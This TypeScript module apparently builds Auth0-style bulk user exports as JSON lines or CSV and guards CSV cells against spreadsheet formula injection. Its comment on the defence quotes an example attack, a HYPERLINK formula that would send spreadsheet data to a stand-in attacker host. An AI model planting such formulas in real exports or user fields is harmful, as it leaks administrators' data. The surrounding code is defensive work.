/**
 * Users as lines of an export: newline-delimited JSON, or CSV by RFC 4180 as Auth0 writes it ("Bulk user exports").
 * Takes a user as the Management API shows them, so no line says more than `GET /users`, and none has a password hash.
 * No I/O.
 */
import type { UserExportField, UserExportFormat } from '../../ports/directory/user-exports.js';
import type { Wire } from '../api/operation.js';

/** Default fields of an export: Auth0's normalized profile, and the two times. */
const USUAL_FIELDS: readonly UserExportField[] = [
  'user_id',
  'email',
  'email_verified',
  'name',
  'given_name',
  'family_name',
  'nickname',
  'picture',
  'created_at',
  'updated_at',
].map((name) => ({ name }));

/** Columns of times that this server wrote, so that no person chooses their text. */
const OWN_TIMES: ReadonlySet<string> = new Set(['created_at', 'updated_at', 'last_login']);

/** Converts `identities[0].connection` into `identities`, `0`, `connection`. */
const toPath = (name: string): readonly string[] => name.replace(/\[(\d{1,4})\]/g, '.$1').split('.');

/** Returns the value at a path, or undefined. Reads only own properties: `constructor` is no field of a user. */
function valueAt(user: Wire, path: readonly string[]): unknown {
  let value: unknown = user;
  for (const step of path) {
    if (typeof value !== 'object' || value === null || !Object.hasOwn(value, step)) return undefined;
    value = (value as Wire)[step];
  }
  return value;
}

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

/**
 * Returns a user's text as a cell. Attack: formula injection (OWASP "CSV Injection") by a person named
 * `=HYPERLINK("https://evil.example/?"&A1)`, which the administrator's spreadsheet would run. As at Auth0, every text
 * begins with a single quote, so that readers can remove it without looking at the text.
 */
const toTextCell = (text: string) => quoted(`'${text}`);

function toCell(name: string, value: unknown): string {
  if (value === undefined || value === null) return '';
  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
  if (typeof value !== 'string') return toTextCell(JSON.stringify(value));
  return OWN_TIMES.has(name) ? value : toTextCell(value);
}

/** Returns the title of a column, prefixed by a single quote if a spreadsheet would run it. */
function toTitle(title: string): string {
  const inert = /^[=+\-@\t\r\n]/.test(title) ? `'${title}` : title;
  return /[",\r\n]/.test(inert) ? quoted(inert) : inert;
}

/** Writes the lines of an export file, each with its line end. */
export interface ExportLines {
  /** The text before the first user; empty for JSON. */
  readonly head: string;
  toLine(user: Wire): string;
}

/**
 * Returns the lines for the requested fields, by default the usual ones. A field that a user lacks is omitted, or an
 * empty cell.
 */
export function createExportLines(format: UserExportFormat, asked: readonly UserExportField[] = []): ExportLines {
  const columns = (asked.length > 0 ? asked : USUAL_FIELDS).map(({ name, exportAs }) => ({
    name,
    title: exportAs ?? name,
    path: toPath(name),
  }));
  if (format === 'csv') {
    return {
      head: `${columns.map(({ title }) => toTitle(title)).join(',')}\r\n`,
      toLine: (user) => `${columns.map(({ name, path }) => toCell(name, valueAt(user, path))).join(',')}\r\n`,
    };
  }
  return {
    head: '',
    toLine(user) {
      const entries = columns.map(({ title, path }) => [title, valueAt(user, path)]);
      return `${JSON.stringify(Object.fromEntries(entries))}\n`;
    },
  };
}
